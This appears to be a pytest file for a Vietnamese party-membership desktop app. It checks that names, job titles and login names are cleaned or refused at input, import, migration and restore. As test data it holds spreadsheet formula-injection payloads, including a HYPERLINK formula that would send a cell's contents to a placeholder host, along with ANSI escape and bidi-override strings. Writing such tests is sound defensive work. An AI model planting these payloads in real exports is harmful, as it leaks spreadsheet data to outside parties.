"""Text that reaches the office from outside: control characters, bidi overrides, formula-like names,
megabyte-long fields. Cleaned or refused at the seam (requests, imports, login, restored data, stored data)."""

from __future__ import annotations

import sqlite3
import time
from pathlib import Path

from attack_support import Cli, write_json
from openpyxl import Workbook, load_workbook

from khoi_desktop.core.auth.accounts import authenticate
from khoi_desktop.core.backup.restore import restore_backup
from khoi_desktop.core.backup.writer import create_backup
from khoi_desktop.core.db import open_database
from khoi_desktop.core.errors import KhoiError
from schema_support import back_to_before_0006

PARENT, MEMBERS = "CS030", ["DV003830", "DV003839", "DV003842"]


def found(name: str, **extra: object) -> dict[str, object]:
    # A chi bộ cơ sở: this office's own decision (a chi bộ trực thuộc would be its đảng ủy's, issue 13).
    return {"action": "found", "kind": "chi_bo_co_so", "name": name, "parent": None, "members": MEMBERS,
            "consent_reason": "Cấp trên đồng ý", **extra}


def stored_names(path: Path) -> list[str]:
    conn = sqlite3.connect(path)
    try:
        return [r[0] for r in conn.execute("SELECT name FROM organizations ORDER BY id DESC LIMIT 1")]
    finally:
        conn.close()


def test_a_pasted_vertical_tab_is_a_space_and_every_export_still_works(office: Path, tmp_path: Path,
                                                                       cli: Cli) -> None:
    request = write_json(tmp_path / "r.json", found("Chi bộ A\u000bB\u0000\u001b[31m\u202eX"))
    code, out, err = cli("apply", office, request, "--issue", "--json")
    assert code == 0, out + err
    assert stored_names(office) == ["Chi bộ A B[31mX"]
    assert "\x1b" not in out + err and "\x00" not in out + err
    for argv in (["export", office, "members", "-o", tmp_path / "m.xlsx"],
                 ["export", office, "organizations", "-o", tmp_path / "o.xlsx"],
                 ["export", office, "register", "-o", tmp_path / "r.xlsx"],
                 ["audit", office, "-o", tmp_path / "a.xlsx"],
                 ["pdf", office, "1", "--docx", tmp_path / "d.docx"]):
        code, out, err = cli(*argv)
        assert code == 0, (argv, out, err)


def test_names_starting_like_a_formula_are_refused_at_input(office: Path, tmp_path: Path, cli: Cli) -> None:
    for name in ('=HYPERLINK("http://x.example/?"&J10,"Chi tiết")', "@SUM(A1)", "+84 Chi bộ", "-1+2"):
        code, out, err = cli("apply", office, write_json(tmp_path / "r.json", found(name)), "--json")
        assert code == 2, (name, out, err)
        assert "công thức" in out, out
    code, out, err = cli("apply", office, write_json(tmp_path / "r.json", found("- Chi bộ Gạch đầu dòng")), "--issue")
    assert code == 0, out + err
    assert stored_names(office) == ["Chi bộ Gạch đầu dòng"]


def test_megabyte_fields_are_refused_before_any_lock_is_taken(office: Path, tmp_path: Path, cli: Cli) -> None:
    started = time.monotonic()
    for request in (found("Chi bộ " + "A" * 10_000_000), found("Chi bộ B", basis="Xét " + "b" * 1_000_000)):
        code, out, _err = cli("apply", office, write_json(tmp_path / "r.json", request), "--issue", "--json")
        assert code == 2 and ("quá giới hạn" in out or "quá lớn" in out), out[:300]
    assert time.monotonic() - started < 60  # before: over five minutes holding the write lock


def _member_list(path: Path, job: str) -> Path:
    wb = Workbook()
    ws = wb.active
    ws.append(["STT", "Họ và tên", "Ngày sinh", "Giới tính", "Ngày vào Đảng", "Chức vụ"])
    ws.append([1, "Trần Thị Mai", "12/03/1990", "Nữ", "05/06/2015", job])
    ws["F2"].data_type = "s"  # text that looks like a formula, as a pasted cell holds it
    wb.save(path)
    return path


def test_an_imported_formula_in_a_job_title_is_refused(office: Path, tmp_path: Path, cli: Cli) -> None:
    sheet = _member_list(tmp_path / "list.xlsx", '=HYPERLINK("http://x.example/?"&J10,"Chi tiết")')
    code, out, _err = cli("import-members", office, sheet, "--org", "CB0278", "--json")
    assert code == 2 and "công thức" in out, out
    sheet = _member_list(tmp_path / "list2.xlsx", "Phó phòng\nKế toán\u202e")
    code, out, err = cli("import-members", office, sheet, "--org", "CB0278", "--json")
    assert code == 0, out + err
    conn = sqlite3.connect(office)
    jobs = [r[0] for r in conn.execute("SELECT job_title FROM members WHERE given_name = 'Mai' "
                                       "AND family_name = 'Trần' AND job_title LIKE 'Phó phòng%'")]
    conn.close()
    assert jobs == ["Phó phòng Kế toán"]


def test_name_parts_longer_than_their_columns_are_refused_at_both_seams(office: Path, tmp_path: Path,
                                                                         cli: Cli) -> None:
    """A server stores at most 60/80/60 characters of họ/tên đệm/tên: longer is refused in words (exit 2), not
    kept on SQLite and a fault on PostgreSQL."""
    person = {"family_name": "Hoàng", "middle_name": "Thị " * 30, "given_name": "Ngọc", "birth_date": "1999-07-16",
              "sex": "nu"}
    request = {"action": "admit", "org": "CB0278", "admitted_on": "2026-04-20", "person": person,
               "introducers": []}
    code, out, _err = cli("apply", office, write_json(tmp_path / "r.json", request), "--json")
    assert code == 2 and "Tên đệm dài 119 ký tự, quá giới hạn 80 ký tự" in out, out
    wb = Workbook()
    wb.active.append(["STT", "Họ và tên", "Ngày sinh", "Giới tính", "Ngày vào Đảng"])
    wb.active.append([1, "Trịnh Thị " + "Hoa" * 30, "12/03/1990", "Nữ", "05/06/2015"])
    wb.save(tmp_path / "long.xlsx")
    code, out, _err = cli("import-members", office, tmp_path / "long.xlsx", "--org", "CB0278", "--json")
    assert code == 2 and "Tên dài 90 ký tự, quá giới hạn 60 ký tự" in out, out
    conn = sqlite3.connect(office)
    assert conn.execute("SELECT count(*) FROM members WHERE length(given_name) > 60 OR length(middle_name) > 80"
                        ).fetchone() == (0,)
    conn.close()


def test_a_login_name_is_recorded_as_text_no_spreadsheet_runs(office: Path, tmp_path: Path, cli: Cli) -> None:
    db = open_database(office)
    try:
        try:
            authenticate(db, '=HYPERLINK("http://x.example","a")', "x")
        except KhoiError:
            pass
    finally:
        db.close()
    code, out, err = cli("audit", office, "-o", tmp_path / "a.xlsx")
    assert code == 0, out + err
    cells = [c for row in load_workbook(tmp_path / "a.xlsx").active.iter_rows(values_only=True) for c in row]
    texts = [c for c in cells if isinstance(c, str) and "HYPERLINK" in c.upper()]
    assert texts and all(not t.startswith("=") for t in texts), texts


def _poison(path: Path) -> None:
    conn = sqlite3.connect(path)
    conn.execute("UPDATE organizations SET name = 'Chi bộ A' || char(11) || 'B' || char(0) WHERE code = 'CB0278'")
    conn.execute("UPDATE members SET given_name = 'An' || char(27) || '[1m', job_title = 'Kế' || char(8238) || 'toán' "
                 "WHERE code = 'DV003830'")
    conn.commit()
    conn.close()


def _cleaned(path: Path) -> tuple[str, str, str, str]:
    conn = sqlite3.connect(path)
    try:
        name = conn.execute("SELECT name FROM organizations WHERE code = 'CB0278'").fetchone()[0]
        given, job, key = conn.execute("SELECT given_name, job_title, search_key FROM members "
                                       "WHERE code = 'DV003830'").fetchone()
    finally:
        conn.close()
    return name, given, job, key


def test_migration_cleans_what_is_already_stored(office: Path) -> None:
    _poison(office)
    back_to_before_0006(office)
    open_database(office).close()
    name, given, job, key = _cleaned(office)
    assert (name, given, job) == ("Chi bộ A B", "An[1m", "Kếtoán")
    assert key.endswith("an[1m")


def test_restored_data_is_cleaned(office: Path, tmp_path: Path) -> None:
    _poison(office)
    db = open_database(office)
    try:
        backup = create_backup(db, tmp_path / "bk", actor="x", kind="manual").path
    finally:
        db.close()
    restore_backup(backup, tmp_path / "restored.db", actor="x")
    assert _cleaned(tmp_path / "restored.db")[:3] == ("Chi bộ A B", "An[1m", "Kếtoán")
